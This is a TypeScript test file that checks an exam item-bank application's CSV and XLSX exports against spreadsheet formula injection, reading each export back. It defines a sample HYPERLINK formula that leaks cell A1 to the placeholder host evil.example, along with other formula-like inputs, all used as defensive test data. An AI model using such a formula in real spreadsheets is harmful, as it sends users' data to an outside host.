// Class 8: no export writes text that a spreadsheet would run as a formula. Every file is read back.
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { slipsWorkbook } from "@/server/candidates/issue-passwords";
import { ItemInputSchema } from "@/server/bank/item-input";
import { buildItemCsv, buildItemWorkbook } from "@/server/bank/item-sheet";
import { parseItemSheets } from "@/server/bank/formats/sheet";
import { buildCsv, buildWorkbook } from "@/server/reports/export-results";
import { parseCsv } from "@/server/reports/csv";
import { readWorkbook } from "@/server/sheets/read-workbook";
import { csvField } from "@/server/sheets/write-safe";

const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")';
const item = ItemInputSchema.parse({
  type: "single",
  stem: EVIL,
  options: [
    { key: "A", text: "+1" },
    { key: "B", text: "-1" },
    { key: "C", text: "@SUM(1,1)" },
    { key: "D", text: "'-' 号" },
  ],
  answer: ["A"],
  levels: ["5"],
  tracks: ["online-merchant"],
  tag: null,
  difficulty: 3,
  status: "draft",
});

async function xlsxCells(bytes: Uint8Array) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(new Uint8Array(bytes).buffer);
  const formulas: string[] = [];
  for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((cell) => void (cell.type === ExcelJS.ValueType.Formula && formulas.push(cell.address))));
  return { wb, formulas };
}

describe("formula injection guard (class 8)", () => {
  it("CSV: a formula-like text gets Excel's apostrophe text marker; a leading apostrophe is kept by doubling", () => {
    expect(csvField("=1+1")).toBe("'=1+1");
    expect(csvField("-5")).toBe("'-5");
    expect(csvField("'引号")).toBe("''引号");
    expect(csvField("普通")).toBe("普通");
    expect(csvField(-5)).toBe("-5");
  });

  it("the item bank CSV is guarded and reads back to the same texts", async () => {
    const csv = buildItemCsv([item]);
    const rows = parseCsv(new TextDecoder().decode(csv));
    expect(rows[1]!.slice(1, 6)).toEqual([`'${EVIL}`, "'+1", "'-1", "'@SUM(1,1)", "''-' 号"]);
    const back = parseItemSheets(await readWorkbook(csv, "题库.csv"));
    expect(back.items[0]!.input.stem).toBe(EVIL);
    expect(back.items[0]!.input.options.map((o) => o.text)).toEqual(["+1", "-1", "@SUM(1,1)", "'-' 号"]);
  });

  it("the item bank XLSX holds strings, never formulas, in Text format, and reads back unchanged", async () => {
    const bytes = await buildItemWorkbook([item]);
    const { wb, formulas } = await xlsxCells(bytes);
    expect(formulas).toEqual([]);
    const cell = wb.worksheets[0]!.getCell("B2");
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(EVIL);
    expect(cell.numFmt).toBe("@");
    const back = parseItemSheets(await readWorkbook(bytes, "题库.xlsx"));
    expect(back.items[0]!.input.stem).toBe(EVIL);
  });

  it("results XLSX/CSV and the password slips are guarded too", async () => {
    const sheet = { name: "成绩", header: ["姓名", "成绩"], rows: [[EVIL, { hundredths: 8550 }]], textColumns: [] };
    const results = await xlsxCells(await buildWorkbook([sheet]));
    expect(results.formulas).toEqual([]);
    expect(results.wb.worksheets[0]!.getCell("A2")).toMatchObject({ value: EVIL, numFmt: "@" });
    expect(results.wb.worksheets[0]!.getCell("B2").value).toBe(85.5);
    expect(parseCsv(new TextDecoder().decode(buildCsv(sheet)))[1]).toEqual([`'${EVIL}`, "85.50"]);

    const slips = await xlsxCells(await slipsWorkbook([{ name: "@cmd", ticketNumber: "202651000001", idNumberMasked: "110***********002X", level: "五级", track: "网商", password: "-abc" }]));
    expect(slips.formulas).toEqual([]);
    const ws = slips.wb.worksheets[0]!;
    expect([ws.getCell("A2").value, ws.getCell("A2").numFmt, ws.getCell("F2").value, ws.getCell("F2").numFmt]).toEqual(["@cmd", "@", "-abc", "@"]);
  });
});
